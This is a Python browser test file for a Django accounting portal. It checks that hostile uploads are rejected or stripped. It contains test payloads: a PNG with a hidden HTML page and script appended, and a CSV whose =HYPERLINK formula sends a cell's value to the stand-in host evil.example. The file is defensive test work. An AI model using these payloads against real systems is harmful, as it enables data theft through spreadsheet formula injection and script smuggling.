"""Hostile uploads in a real browser: the client sees why a file is refused, and the practice
logo is served as pixels only, whatever was glued to the uploaded image.

Screenshots: var/screenshots/uploads_*_<width>.png.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled
from PIL import Image

from portal.models import Document, Submission
from sodium.models import Practice
from sodium.roles import Role
from tests import factories as f
from tests.browser.test_portal_journeys import (  # noqa: F401 - fixtures used by name
    LINK_RE,
    brokerless,
    emailed_link,
    item_url,
    new_page,
    no_horizontal_scroll,
    play_worker,
    refreshed,
    request_step,
    start_task,
    world,
)

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

WIDTHS = [1280, 390]
HTML_PAGE = b"<html><body><script>fetch('/settings/members/')</script></body></html>"


def png_bytes(size=(120, 40), colour=(15, 110, 110)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, colour).save(buf, "PNG")
    return buf.getvalue()


@pytest.mark.parametrize("width", WIDTHS)
def test_client_sees_why_a_hidden_web_page_or_a_formula_is_refused(
    live_server,
    browser,
    screenshot,
    world,  # noqa: F811 - the imported fixture
    brokerless,  # noqa: F811
    width,
):
    (step,) = start_task(world, "Year end accounts 2026", [request_step()])
    step = play_worker(world, step)
    link = emailed_link(live_server, f"step:{step.pk}:open", LINK_RE)
    context, page = new_page(browser, width)
    page.goto(link)
    page.get_by_role("button", name="Continue").click()
    page.wait_for_url(item_url(live_server, step))

    files = page.get_by_label("Files")
    files.set_input_files(
        {"name": "passport.png", "mimeType": "image/png", "buffer": png_bytes() + HTML_PAGE}
    )
    page.get_by_role("button", name="Send documents").click()
    error = page.locator(".alert-error")
    error.wait_for()
    assert "passport.png has web-page code (“<html”) hidden inside it" in error.inner_text()
    assert no_horizontal_scroll(page)
    screenshot(page, "uploads_portal_polyglot")

    page.get_by_label("Files").set_input_files(
        {
            "name": "bank.csv",
            "mimeType": "text/csv",
            "buffer": b'=HYPERLINK("https://evil.example/?d="&B2,"Invoice"),amount\nx,1\n',
        }
    )
    page.get_by_role("button", name="Send documents").click()
    page.locator(".alert-error").get_by_text("is a spreadsheet formula").wait_for()
    assert no_horizontal_scroll(page)
    screenshot(page, "uploads_portal_formula_csv")
    with scopes_disabled():
        assert not Document.objects.exists()
        assert not Submission.objects.exists()
        assert refreshed(step).sub_status == "awaiting_response"
    context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_owner_uploads_a_polyglot_logo_and_only_its_pixels_are_served(
    live_server, browser, screenshot, width
):
    with scopes_disabled():
        practice = f.PracticeFactory(name="Hartley & Finch Accountants", slug="hartley-finch")
        owner = f.MembershipFactory(practice=practice, role=Role.OWNER).user
    context, page = new_page(browser, width)
    page.goto(f"{live_server.url}/sign-in/")
    page.get_by_label("Email").fill(owner.email)
    page.get_by_label("Password").fill("pw-for-tests-1")
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{live_server.url}/")

    page.goto(live_server.url + reverse("sodium:practice-settings"))
    too_big = png_bytes(size=(4100, 20))
    page.get_by_label("Logo").set_input_files(
        {"name": "logo.png", "mimeType": "image/png", "buffer": too_big}
    )
    page.get_by_role("button", name="Save settings").click()
    page.get_by_text("The logo is too large: use one at most 4000 pixels").wait_for()
    assert no_horizontal_scroll(page)
    screenshot(page, "uploads_logo_too_large")

    page.get_by_label("Logo").set_input_files(
        {"name": "logo.png", "mimeType": "image/png", "buffer": png_bytes() + HTML_PAGE}
    )
    page.get_by_role("button", name="Save settings").click()
    page.get_by_text("Saved the practice settings.").wait_for()
    page.locator(".brand-preview-bar img").wait_for()
    assert no_horizontal_scroll(page)
    screenshot(page, "uploads_logo_saved")

    served = page.request.get(
        live_server.url + reverse("sodium:practice-logo", args=[practice.slug])
    )
    assert served.status == 200
    assert served.headers["content-type"] == "image/png"
    assert b"<html" not in served.body() and b"<script" not in served.body()
    assert Image.open(io.BytesIO(served.body())).size == (120, 40)
    with scopes_disabled():
        assert Practice.objects.get(pk=practice.pk).logo.name.endswith(".png")
    context.close()
